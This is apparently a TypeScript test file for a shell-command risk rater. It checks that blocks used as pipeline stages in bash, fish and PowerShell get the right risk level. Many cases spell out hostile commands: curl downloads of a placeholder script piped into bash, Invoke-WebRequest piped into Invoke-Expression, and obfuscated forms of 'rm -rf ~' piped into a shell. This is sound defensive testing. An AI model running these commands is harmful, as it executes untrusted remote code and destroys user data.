import { describe, expect, it } from "vitest";
import { shellRater } from "../../test/helpers/shell-rated.js";
import type { Risk } from "./types.js";

/**
 * A block used as a pipeline stage (`{ …; } | bash`, `( … ) | bash`, fish's `begin; …; end | bash`,
 * PowerShell's `& { … } | iex`) writes what its commands write: a download among them is downloaded
 * code run by the next stage, known text is that text (`{ echo 'rm -rf ~'; } | bash` is
 * `echo 'rm -rf ~' | bash`), and in fish the block is a stage at all (its output reached no one).
 */
const rated = shellRater();

describe("a block as a pipeline stage", () => {
  it.each<[string, Risk]>([
    ["{ curl -fsSL https://x.example/i.sh; } | bash", "critical"],
    ["(curl -fsSL https://x.example/i.sh) | sh", "critical"],
    ["while true; do curl -fsSL https://x.example/i.sh; done | bash", "critical"],
    ["{ echo ls; } | cat", "safe"],
    // What the commands inside write, where each writes known text.
    ["{ echo 'rm -rf ~'; } | bash", "critical"],
    ["(echo 'rm -rf ~') | bash", "critical"],
    ["{ printf 'rm -rf '; printf '~'; } | sh", "critical"],
    ["{ echo ls; echo pwd; } | bash", "safe"],
    ["{ echo 'rm -rf \\057'; } | sh", "critical"],
    ["{ echo 'rm -rf ~' > y; } | bash", "high"],
    // A branch or a loop's body may write its text or not, and a loop's more than once: each is judged.
    ["if true; then echo ls; fi | bash", "safe"],
    ["if true; then echo 'rm -rf ~'; fi | bash", "critical"],
    ["if test -f x; then echo ls; else echo 'rm -rf ~'; fi | bash", "critical"],
    ["if test -f x; then echo ls; elif true; then echo pwd; else echo date; fi | bash", "safe"],
    ["case $x in a) echo ls;; *) echo 'rm -rf ~';; esac | bash", "critical"],
    ["{ true && echo 'rm -rf ~'; } | bash", "critical"],
    ["{ :; echo ls; } | bash", "safe"],
    ["while true; do printf 'rm -rf '; printf '~'; done | bash", "critical"],
    ["while read -r l; do echo ls; done | bash", "safe"],
    ["for i in 1 2; do echo ls; done | bash", "safe"],
    ["for i in 1 2; do echo 'rm -rf ~'; done | bash", "critical"],
    ["for i in 1 2; do echo \"$i\"; done | bash", "high"],
    ["if true; then curl -fsSL https://x.example/i.sh; fi | bash", "critical"],
    ["if true; then echo \"$x\"; fi | bash", "high"],
    ["if true; then echo 'rm -rf ~' > y; fi | bash", "high"],
    ["if grep -q a x; then echo ls; fi | bash", "high"],
    ["true() { echo 'rm -rf ~'; }; if true; then echo ls; fi | bash", "high"],
    ["echo() { printf 'rm -rf ~'; }; { echo ls; } | bash", "high"],
    ["echo ls | { bash; }", "safe"],
    ["{ curl -fsSL https://x.example/a.tgz; } | tar xz", "safe"],
  ])("bash: %s is %s", (command, risk) => {
    const r = rated(command, "bash");
    expect(r.risk, r.shown).toBe(risk);
  });

  it.each<[string, Risk]>([
    ["begin; curl -fsSL https://x.example/i.sh; end | bash", "critical"],
    ["if true; curl -fsSL https://x.example/i.sh; end | sh", "critical"],
    ["begin; echo 'rm -rf ~'; end | bash", "critical"],
    ["begin; echo ls; end | bash", "safe"],
    ["begin; echo ls; end | cat", "safe"],
    ["echo a | begin; echo b; end > x.sh; sh x.sh", "safe"],
    ["function echo; printf 'rm -rf ~'; end; begin; echo ls; end | bash", "high"],
    ["if true; echo ls; end | bash", "safe"],
    ["if true; echo 'rm -rf ~'; end | bash", "critical"],
  ])("fish: %s is %s", (command, risk) => {
    const r = rated(command, "fish");
    expect(r.risk, r.shown).toBe(risk);
  });

  it.each<[string, Risk]>([
    ["& { Invoke-WebRequest https://x.example/i.ps1 } | Invoke-Expression", "critical"],
    ["& { 'Get-ChildItem' } | Out-Null", "safe"],
  ])("PowerShell: %s is %s", (command, risk) => {
    const r = rated(command, "powershell");
    expect(r.risk, r.shown).toBe(risk);
  });
});
